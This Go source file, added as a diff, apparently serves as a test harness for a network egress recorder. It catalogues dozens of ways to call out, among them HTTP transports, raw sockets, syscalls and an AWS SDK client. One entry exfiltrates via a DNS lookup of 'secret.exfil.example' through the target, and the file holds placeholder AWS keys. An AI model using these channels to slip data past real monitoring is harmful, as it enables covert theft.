@@ -1,0 +1,258 @@
+package main
+
+//lint:file-ignore SA1019 http2.Transport is deprecated and used all the same, so it is one of the ways
+
+import (
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"net/url"
+	"os"
+	"os/exec"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"time"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/sns"
+	"golang.org/x/net/http2"
+	"golang.org/x/sys/unix"
+)
+
+// ways are the ways to call out. Each sends "hello" or a request to the target.
+var ways = map[string]func(context.Context, request) error{
+	"http.Get":          func(_ context.Context, r request) error { return finish(http.Get(r.url("http"))) },
+	"http.DefaultClone": get("http", clone()),
+	"transport literal": get("http", &http.Transport{}),
+	"transport h2":      get("https", &http.Transport{ForceAttemptHTTP2: true, TLSClientConfig: insecure()}),
+	"x/net/http2": get("http", &http2.Transport{AllowHTTP: true, DialTLSContext: func(ctx context.Context, network, addr string, _ *tls.Config) (net.Conn, error) {
+		return new(net.Dialer).DialContext(ctx, network, addr)
+	}}),
+	"http.ClientConn":      clientConn,
+	"http through a proxy": throughProxy,
+	"aws sdk":              publish,
+	"net.Dial":             dial(func(r request) (net.Conn, error) { return net.Dial("tcp", r.Target) }),
+	"net.DialTimeout":      dial(func(r request) (net.Conn, error) { return net.DialTimeout("tcp", r.Target, time.Second) }),
+	"net.DialTCP": dial(func(r request) (net.Conn, error) {
+		return net.DialTCP("tcp", nil, net.TCPAddrFromAddrPort(r.addr()))
+	}),
+	"Dialer.DialTCP": dial(func(r request) (net.Conn, error) {
+		return new(net.Dialer).DialTCP(context.Background(), "tcp", netip.AddrPort{}, r.addr())
+	}),
+	"tls.Dial": func(_ context.Context, r request) error {
+		c, err := tls.Dial("tcp", r.Target, insecure())
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", r.Path, r.Target); err != nil {
+			return err
+		}
+		text, err := io.ReadAll(c)
+		if err == nil && !strings.HasPrefix(string(text), "HTTP/1.1 200") {
+			err = errors.New(string(text))
+		}
+		return err
+	},
+	"net.Dial udp": dial(func(r request) (net.Conn, error) { return net.Dial("udp", r.Target) }),
+	"net.DialUDP": dial(func(r request) (net.Conn, error) {
+		return net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(r.addr()))
+	}),
+	"net.Dial unix": dial(func(r request) (net.Conn, error) { return net.Dial("unix", r.Target) }),
+	"UDPConn.WriteTo": unconnected(func(c *net.UDPConn, r request) error {
+		_, err := c.WriteTo([]byte("hello"), net.UDPAddrFromAddrPort(r.addr()))
+		return err
+	}),
+	"UDPConn.WriteMsgUDP": unconnected(func(c *net.UDPConn, r request) error {
+		_, _, err := c.WriteMsgUDP([]byte("hello"), nil, net.UDPAddrFromAddrPort(r.addr()))
+		return err
+	}),
+	"syscall.Connect": socket(syscall.SOCK_STREAM, func(fd int, r request) error {
+		if err := syscall.Connect(fd, r.syscallAddr()); err != nil {
+			return err
+		}
+		_, err := syscall.Write(fd, []byte("hello"))
+		return err
+	}),
+	"syscall.Sendto": socket(syscall.SOCK_DGRAM, func(fd int, r request) error {
+		return syscall.Sendto(fd, []byte("hello"), 0, r.syscallAddr())
+	}),
+	"syscall.Sendmsg": socket(syscall.SOCK_DGRAM, func(fd int, r request) error {
+		return syscall.Sendmsg(fd, []byte("hello"), nil, r.syscallAddr(), 0)
+	}),
+	"unix.Connect": socket(syscall.SOCK_STREAM, func(fd int, r request) error {
+		if err := unix.Connect(fd, r.unixAddr()); err != nil {
+			return err
+		}
+		_, err := unix.Write(fd, []byte("hello"))
+		return err
+	}),
+	"unix.Sendto": socket(syscall.SOCK_DGRAM, func(fd int, r request) error {
+		return unix.Sendto(fd, []byte("hello"), 0, r.unixAddr())
+	}),
+	"unix.SendmsgN": socket(syscall.SOCK_DGRAM, func(fd int, r request) error {
+		_, err := unix.SendmsgN(fd, []byte("hello"), nil, r.unixAddr(), 0)
+		return err
+	}),
+	"unix.SendmsgBuffers": socket(syscall.SOCK_DGRAM, func(fd int, r request) error {
+		_, err := unix.SendmsgBuffers(fd, [][]byte{[]byte("hello")}, nil, r.unixAddr(), 0)
+		return err
+	}),
+	"os/exec": func(ctx context.Context, _ request) error {
+		return exec.CommandContext(ctx, "/bin/true", "secret").Run()
+	},
+	// As database drivers do it.
+	"lookup, then dial": func(ctx context.Context, r request) error {
+		if _, err := net.DefaultResolver.LookupHost(ctx, "localhost"); err != nil {
+			return err
+		}
+		return dial(func(r request) (net.Conn, error) { return net.Dial("tcp", r.Target) })(ctx, r)
+	},
+	// The target is asked as if it were a name server.
+	"another name server": func(ctx context.Context, r request) error {
+		resolver := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
+			return new(net.Dialer).DialContext(ctx, "udp", r.Target)
+		}}
+		_, err := resolver.LookupHost(ctx, "secret.exfil.example")
+		return err
+	},
+	// Two requests on one connection.
+	"pooled h2": func(ctx context.Context, r request) error {
+		for _, path := range []string{"/a", "/b"} {
+			if err := get("https", pool)(ctx, request{Target: r.Target, Path: path}); err != nil {
+				return err
+			}
+		}
+		return nil
+	},
+	"runtime api": func(ctx context.Context, r request) error {
+		r.Target = os.Getenv("AWS_LAMBDA_RUNTIME_API")
+		return get("http", &http.Transport{})(ctx, r)
+	},
+	"net.Interfaces": func(context.Context, request) error {
+		_, err := net.Interfaces() // asks the kernel by a netlink socket
+		return err
+	},
+}
+
+var pool = &http.Transport{ForceAttemptHTTP2: true, TLSClientConfig: insecure()}
+
+// insecure is for recorders, whose certificate is their own. Transports change the configuration
+// that they get.
+func insecure() *tls.Config { return &tls.Config{InsecureSkipVerify: true} }
+
+func (r request) url(scheme string) string { return scheme + "://" + r.Target + r.Path }
+
+func (r request) addr() netip.AddrPort { return netip.MustParseAddrPort(r.Target) }
+
+func (r request) syscallAddr() *syscall.SockaddrInet4 {
+	return &syscall.SockaddrInet4{Addr: r.addr().Addr().As4(), Port: int(r.addr().Port())}
+}
+
+func (r request) unixAddr() *unix.SockaddrInet4 {
+	return &unix.SockaddrInet4{Addr: r.addr().Addr().As4(), Port: int(r.addr().Port())}
+}
+
+// clone is made on first use, because a clone is a copy of what http.DefaultTransport is then.
+func clone() http.RoundTripper {
+	return roundTripFunc(sync.OnceValue(func() http.RoundTripper {
+		t := http.DefaultTransport.(*http.Transport).Clone()
+		t.Proxy = nil
+		return t
+	}))
+}
+
+type roundTripFunc func() http.RoundTripper
+
+func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f().RoundTrip(r) }
+
+func get(scheme string, t http.RoundTripper) func(context.Context, request) error {
+	return func(ctx context.Context, r request) error {
+		req, err := http.NewRequestWithContext(ctx, "GET", r.url(scheme), nil)
+		if err != nil {
+			return err
+		}
+		return finish((&http.Client{Transport: t}).Do(req))
+	}
+}
+
+func finish(resp *http.Response, err error) error {
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	_, err = io.Copy(io.Discard, resp.Body)
+	return err
+}
+
+func clientConn(ctx context.Context, r request) error {
+	cc, err := new(http.Transport).NewClientConn(ctx, "http", r.Target)
+	if err != nil {
+		return err
+	}
+	defer cc.Close()
+	req, err := http.NewRequestWithContext(ctx, "GET", r.url("http"), nil)
+	if err != nil {
+		return err
+	}
+	return finish(cc.RoundTrip(req))
+}
+
+// throughProxy asks the target, as a proxy, for a name that nobody has.
+func throughProxy(ctx context.Context, r request) error {
+	proxy := &url.URL{Scheme: "http", Host: r.Target}
+	return get("http", &http.Transport{Proxy: http.ProxyURL(proxy)})(ctx, request{Target: "allowed.example", Path: r.Path})
+}
+
+var client = sync.OnceValue(func() *sns.Client {
+	return sns.New(sns.Options{Region: "eu-west-1", Credentials: aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
+		return aws.Credentials{AccessKeyID: "ASIARTX3GSDSQAABCDEF", SecretAccessKey: "s"}, nil
+	})})
+})
+
+func publish(ctx context.Context, r request) error {
+	_, err := client().Publish(ctx, &sns.PublishInput{Message: aws.String("m"), TopicArn: aws.String("arn:aws:sns:eu-west-1:111122223333:t")},
+		func(o *sns.Options) { o.BaseEndpoint = aws.String(r.url("http")) })
+	return err
+}
+
+func dial(f func(request) (net.Conn, error)) func(context.Context, request) error {
+	return func(_ context.Context, r request) error {
+		c, err := f(r)
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		_, err = io.WriteString(c, "hello")
+		return err
+	}
+}
+
+func unconnected(send func(*net.UDPConn, request) error) func(context.Context, request) error {
+	return func(_ context.Context, r request) error {
+		c, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		return send(c, r)
+	}
+}
+
+func socket(kind int, send func(int, request) error) func(context.Context, request) error {
+	return func(_ context.Context, r request) error {
+		fd, err := syscall.Socket(syscall.AF_INET, kind, 0)
+		if err != nil {
+			return errors.Join(errors.New("socket "+strconv.Itoa(kind)), err)
+		}
+		defer syscall.Close(fd)
+		return send(fd, r)
+	}
+}
